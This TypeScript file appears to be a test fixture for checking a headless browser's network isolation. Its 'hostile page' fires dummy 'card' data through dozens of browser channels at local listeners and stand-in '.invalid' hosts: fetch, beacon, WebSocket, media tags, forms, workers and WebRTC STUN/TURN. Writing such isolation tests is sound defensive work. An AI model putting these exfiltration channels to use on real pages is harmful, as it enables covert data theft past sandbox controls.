/** Code of a hostile page: tries every way that a page has to reach another program. */
import type { Ports } from './listeners.ts';

/** Ways that work in a plain Chromium without windows. Each arrives under its name. Others are tried as well. */
export const waysOut = [
  'fetch',
  'xhr',
  'beacon',
  'web-socket',
  'event-source',
  'image',
  'background',
  'font',
  'frame',
  'object',
  'script',
  'module',
  'style',
  'video',
  'prefetch',
  'ping',
  'form-blank',
  'window',
  'worker',
  'keepalive',
  'turn-tcp',
  'ice-tcp',
  'stun-udp',
  'ice-udp',
  'quic',
] as const;

/** Ways that replace the page. */
export const waysToLeave = ['location', 'form-get', 'form-post', 'link'] as const;

/** Names that only a look-up would tell. Nobody answers for them. */
export const leakedNames = [
  'web-socket.invalid',
  'dns-prefetch.invalid',
  'preconnect.invalid',
  'stun.invalid',
  'turn.invalid',
];

/** Runs in the page. Starts every way at once and resolves when each has been started. Nothing stops at a refusal. */
export async function tryEveryWayOut(ports: Ports): Promise<void> {
  const http = (path: string): string => `http://127.0.0.1:${ports.http}/${path}`;
  const attempt = (work: () => unknown): void => {
    try {
      Promise.resolve(work()).catch(() => undefined);
    } catch {
      // Refused. The listeners tell what was not.
    }
  };
  const add = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  attempt(() => fetch(http('fetch'), { mode: 'no-cors' }));
  attempt(() => fetch(http('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'card' }));
  attempt(() => {
    const request = new XMLHttpRequest();
    request.open('POST', http('xhr'));
    request.send('card');
  });
  attempt(() => navigator.sendBeacon(http('beacon'), 'card'));
  attempt(() => new WebSocket(`ws://127.0.0.1:${ports.http}/web-socket`));
  attempt(() => new WebSocket('wss://web-socket.invalid/'));
  attempt(() => new EventSource(http('event-source')));
  attempt(() => new WebTransport(`https://127.0.0.1:${ports.quic}/`).ready);
  attempt(() => add('img', { src: http('image') }));
  attempt(() => (add('div', { style: 'width: 9px; height: 9px' }).style.background = `url(${http('background')})`));
  attempt(() => new FontFace('hostile', `url(${http('font')})`).load());
  attempt(() => add('iframe', { src: http('frame') }));
  attempt(() => add('object', { data: http('object'), type: 'text/html' }));
  attempt(() => add('script', { src: http('script') }));
  attempt(() => add('script', { src: http('module'), type: 'module' }));
  attempt(() => add('link', { rel: 'stylesheet', href: http('style') }));
  attempt(() => add('link', { rel: 'icon', href: http('icon') }));
  attempt(() => add('video', { src: http('video'), preload: 'auto' }));
  attempt(() => add('link', { rel: 'prefetch', href: http('prefetch') }));
  attempt(() => add('link', { rel: 'preconnect', href: `http://127.0.0.1:${ports.preconnect}/` }));
  attempt(() => add('link', { rel: 'preconnect', href: 'http://preconnect.invalid/' }));
  attempt(() => add('link', { rel: 'dns-prefetch', href: '//dns-prefetch.invalid' }));
  attempt(() => add('a', { href: '#here', ping: http('ping') }).click());
  attempt(() =>
    (add('form', { action: http('form-blank'), method: 'post', target: '_blank' }) as HTMLFormElement).submit(),
  );
  attempt(() => window.open(http('window')));
  attempt(() => {
    const code = `fetch(${JSON.stringify(http('worker'))}, { mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  });
  attempt(() => new SharedWorker(http('shared-worker')));
  attempt(() => navigator.serviceWorker.register('/service-worker.js'));
  attempt(async () => {
    const turn = { username: 'card', credential: 'card' };
    const one = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:127.0.0.1:${ports['stun-udp']}` },
        { urls: 'stun:stun.invalid:3478' },
        { urls: `turn:127.0.0.1:${ports['turn-tcp']}?transport=tcp`, ...turn },
        { urls: 'turn:turn.invalid:3478?transport=tcp', ...turn },
      ],
    });
    const other = new RTCPeerConnection();
    one.createDataChannel('card');
    await one.setLocalDescription(await one.createOffer());
    await other.setRemoteDescription(one.localDescription as RTCSessionDescriptionInit);
    await other.setLocalDescription(await other.createAnswer());
    await one.setRemoteDescription(other.localDescription as RTCSessionDescriptionInit);
    const at = (protocol: string, port: number, type: string): RTCIceCandidateInit => ({
      candidate: `candidate:1 1 ${protocol} 2122260223 127.0.0.1 ${port} typ host${type}`,
      sdpMid: '0',
    });
    await one.addIceCandidate(at('udp', ports['ice-udp'], ''));
    await one.addIceCandidate(at('tcp', ports['ice-tcp'], ' tcptype passive'));
  });
}

/** Runs in the page. Leaves it, if it may. */
export function tryToLeave([way, port]: readonly [(typeof waysToLeave)[number], number]): void {
  const url = `http://127.0.0.1:${port}/${way}`;
  if (way === 'location') {
    location.href = url;
  } else if (way === 'link') {
    const link = document.createElement('a');
    link.href = url;
    document.body.append(link);
    link.click();
  } else {
    const form = document.createElement('form');
    Object.assign(form, { action: url, method: way === 'form-get' ? 'get' : 'post' });
    document.body.append(form);
    form.submit();
  }
}
